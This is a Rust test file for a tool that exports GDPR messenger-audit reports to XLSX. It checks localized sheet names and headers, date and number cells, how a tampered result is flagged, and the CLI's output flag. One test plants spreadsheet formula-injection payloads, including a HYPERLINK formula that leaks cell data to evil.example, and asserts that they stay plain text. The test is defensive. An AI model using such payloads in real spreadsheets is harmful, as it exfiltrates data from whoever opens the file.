//! The XLSX report read back with calamine: sheet names and headers in the report's language, dates as date
//! cells, counts as numbers, hostile answers as plain text (no formula anywhere), and a tampered result's
//! summary saying NOT VERIFIED. The CLI wants `-o FILE` for it.

mod report_support;

use std::io::Cursor;
use std::process::Command;

use calamine::{Data, Reader, Xlsx};
use msgaudit::lang::Lang;
use msgaudit::report::Format;
use report_support::{Fixture, signed, standard_audit};

type Book = Xlsx<Cursor<Vec<u8>>>;

fn workbook(f: &Fixture, lang: Option<Lang>) -> (Book, bool) {
    let mut opts = f.options(Format::Xlsx);
    opts.lang = lang;
    let r = msgaudit::report::build_file(&f.result, &opts).unwrap_or_else(|e| panic!("{e}"));
    let bytes = msgaudit::report::render(&r, Format::Xlsx, false).unwrap_or_else(|e| panic!("{e}"));
    assert!(bytes.starts_with(b"PK"), "an XLSX is a zip file");
    let book: Book =
        calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap_or_else(|e| panic!("{e}"));
    (book, r.verification.valid)
}

fn sheet(book: &mut Book, name: &str) -> calamine::Range<Data> {
    book.worksheet_range(name)
        .unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn header(range: &calamine::Range<Data>) -> Vec<String> {
    range
        .rows()
        .next()
        .map(|r| r.iter().map(ToString::to_string).collect())
        .unwrap_or_default()
}

/// The value cell of the summary row named `field`.
fn field<'a>(range: &'a calamine::Range<Data>, field: &str) -> &'a Data {
    range
        .rows()
        .find(|r| r.first().is_some_and(|c| *c == field))
        .and_then(|r| r.get(1))
        .unwrap_or_else(|| panic!("no summary row {field}"))
}

/// No cell of any sheet holds a formula.
fn assert_no_formula(book: &mut Book) {
    for name in book.sheet_names() {
        let formulas = book
            .worksheet_formula(&name)
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name} holds a formula"
        );
    }
}

#[test]
fn german_and_english_workbooks_have_their_sheets_and_headers() {
    let f = signed(&standard_audit());
    let (mut de, valid) = workbook(&f, None);
    assert!(valid);
    assert_eq!(
        de.sheet_names(),
        [
            "Zusammenfassung",
            "Befunde",
            "Maßnahmenplan",
            "Zu klären",
            "Antworten",
            "Verzeichnis (Art. 30)"
        ]
    );
    let plan = sheet(&mut de, "Maßnahmenplan");
    assert_eq!(
        header(&plan),
        [
            "Schweregrad",
            "Maßnahme",
            "Status",
            "Verantwortlich",
            "Fällig",
            "Begründung",
            "Im vorigen Audit",
            "Schlüssel"
        ]
    );
    // Every grouped measure has a row, open without an entry.
    assert!(
        plan.rows()
            .skip(1)
            .all(|r| r.get(2).map(ToString::to_string).as_deref() == Some("offen"))
    );
    assert_eq!(
        plan.rows().count() - 1,
        sheet(&mut de, "Befunde").rows().count() - 1
    );
    let art30 = sheet(&mut de, "Verzeichnis (Art. 30)");
    assert_eq!(
        header(&art30),
        [
            "Messenger",
            "Feld",
            "Norm",
            "Inhalt",
            "Quelle",
            "Schlüssel",
            "Stand",
            "Notiz",
            "offen"
        ]
    );
    // The test checklist tags no question: every field of every messenger found is marked open, the
    // controller's name aside, which comes from the audit details.
    let rows: Vec<Vec<String>> = art30
        .rows()
        .skip(1)
        .map(|r| r.iter().map(ToString::to_string).collect())
        .collect();
    assert!(rows.iter().any(|r| r[0] == "WhatsApp"
        && r[2] == "Art. 30 Abs. 1 lit. a DSGVO"
        && r[3] == "Bäckerei Müller & Söhne GmbH (Vertrieb)"));
    assert!(rows.iter().any(|r| r[0] == "WhatsApp"
        && r[2] == "Art. 30 Abs. 1 lit. f DSGVO"
        && r[8] == "offen – bitte ergänzen"));
    let findings = sheet(&mut de, "Befunde");
    assert_eq!(
        header(&findings),
        [
            "Befund-ID",
            "Schweregrad",
            "Befund",
            "Maßnahme",
            "betrifft",
            "umfasst auch",
            "Fundstellen",
            "DSFA-Kriterium"
        ]
    );
    // The severity column holds the severity words, filterable as text.
    let severities: Vec<String> = findings
        .rows()
        .skip(1)
        .filter_map(|r| r.get(1).map(ToString::to_string))
        .collect();
    assert!(!severities.is_empty(), "the standard audit has findings");
    assert!(
        severities
            .iter()
            .all(|s| ["Hoch", "Mittel", "Niedrig", "Hinweis"].contains(&s.as_str())),
        "{severities:?}"
    );
    assert!(
        findings
            .rows()
            .skip(1)
            .all(|r| matches!(r[1], Data::String(_)))
    );

    let (mut en, _) = workbook(&f, Some(Lang::En));
    assert_eq!(
        en.sheet_names(),
        [
            "Summary",
            "Findings",
            "Action plan",
            "To clarify",
            "Answers",
            "Records (Art. 30)"
        ]
    );
    assert_eq!(
        header(&sheet(&mut en, "Records (Art. 30)")),
        [
            "Messenger",
            "Field",
            "Provision",
            "Content",
            "Source",
            "Key",
            "as of",
            "Note",
            "open"
        ]
    );
    assert_eq!(
        header(&sheet(&mut en, "Answers")),
        [
            "Section",
            "Question",
            "Answer",
            "Note",
            "State",
            "Key",
            "hidden",
            "Contradiction with the knowledge base"
        ]
    );
    assert_eq!(header(&sheet(&mut en, "Summary")), ["Field", "Value"]);
    let points = sheet(&mut en, "To clarify");
    assert_eq!(header(&points), ["Place", "Question", "Reason", "Key"]);
    assert!(
        points.height() > 1,
        "the standard audit has an unknown answer"
    );
}

#[test]
fn the_summary_has_a_date_cell_numbers_and_the_verification_state() {
    let f = signed(&standard_audit());
    let (mut book, _) = workbook(&f, None);
    let s = sheet(&mut book, "Zusammenfassung");
    let state = field(&s, "Prüfstatus").to_string();
    assert!(state.starts_with("GÜLTIG"), "{state}");
    assert_eq!(
        field(&s, "Organisation"),
        &Data::String("Bäckerei Müller & Söhne GmbH".into())
    );
    // 20 September 2026 as a date cell: Excel counts days from 30 December 1899.
    let Data::DateTime(d) = field(&s, "Prüfdatum") else {
        panic!(
            "the audit date is not a date cell: {:?}",
            field(&s, "Prüfdatum")
        );
    };
    assert!(d.is_datetime());
    let days = jiff::civil::date(1899, 12, 30)
        .until(jiff::civil::date(2026, 9, 20))
        .unwrap_or_else(|e| panic!("{e}"))
        .get_days();
    assert!((d.as_f64() - f64::from(days)).abs() < f64::EPSILON);
    assert!(
        matches!(field(&s, "Zeitpunkt"), Data::DateTime(t) if t.is_datetime()),
        "the time of signing is a date-time cell"
    );
    assert!(matches!(field(&s, "Zu klären"), Data::Float(n) if *n >= 1.0));
    assert!(matches!(field(&s, "Befunde (Hoch)"), Data::Float(_)));
}

#[test]
fn hostile_answers_stay_text() {
    let mut audit = standard_audit();
    let hostile = r#"=HYPERLINK("http://evil.example/?"&A1,"Klick")"#;
    for (k, v) in &mut audit.answers {
        if *k == "measures.remarks" {
            let mut t = toml::Table::new();
            t.insert("value".into(), toml::Value::from(hostile));
            t.insert("note".into(), toml::Value::from("@SUM(1+1)"));
            *v = toml::Value::Table(t);
        }
    }
    audit.meta.unit = "=1+1".into();
    let f = signed(&audit);
    let (mut book, _) = workbook(&f, None);
    let answers = sheet(&mut book, "Antworten");
    let row = answers
        .rows()
        .find(|r| r.get(2).is_some_and(|c| *c == hostile))
        .unwrap_or_else(|| panic!("the hostile answer is not in the answers sheet"));
    assert_eq!(row[2], Data::String(hostile.into()));
    assert_eq!(row[3], Data::String("@SUM(1+1)".into()));
    let s = sheet(&mut book, "Zusammenfassung");
    assert_eq!(field(&s, "Bereich"), &Data::String("=1+1".into()));
    assert_no_formula(&mut book);
}

#[test]
fn a_tampered_result_says_not_verified_in_its_summary() {
    let f = signed(&standard_audit());
    let text = std::fs::read_to_string(&f.result).unwrap_or_default();
    let changed = text.replacen("Vertrieb", "Vertriep", 1);
    assert_ne!(text, changed);
    std::fs::write(&f.result, changed).unwrap_or_else(|e| panic!("{e}"));
    for (lang, name, state, word) in [
        (None, "Zusammenfassung", "Prüfstatus", "NICHT VERIFIZIERT"),
        (Some(Lang::En), "Summary", "Verification", "NOT VERIFIED"),
    ] {
        let (mut book, valid) = workbook(&f, lang);
        assert!(!valid);
        let s = sheet(&mut book, name);
        // The state is the first row under the header.
        let first = s
            .rows()
            .nth(1)
            .map(|r| (r[0].to_string(), r[1].to_string()))
            .unwrap_or_default();
        assert_eq!(first.0, state);
        assert!(first.1.starts_with(word), "{}", first.1);
    }
}

#[test]
fn the_cli_writes_xlsx_to_a_file_only() {
    let f = signed(&standard_audit());
    let run = |args: &[&std::ffi::OsStr]| {
        Command::new(env!("CARGO_BIN_EXE_msgaudit"))
            .arg("report")
            .arg(&f.result)
            .arg("--home")
            .arg(f.home.path())
            .args(["--format", "xlsx", "--lang", "en"])
            .args(args)
            .output()
            .unwrap_or_else(|e| panic!("{e}"))
    };
    let out = run(&[]);
    assert_eq!(out.status.code(), Some(2), "usage error without -o");
    assert!(out.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("-o FILE"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let target = f.home.path().join("report.xlsx");
    let out = run(&["-o".as_ref(), target.as_os_str()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut book: Xlsx<_> = calamine::open_workbook(&target).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(book.sheet_names().len(), 6);
    assert!(book.worksheet_range("Findings").is_ok());
}
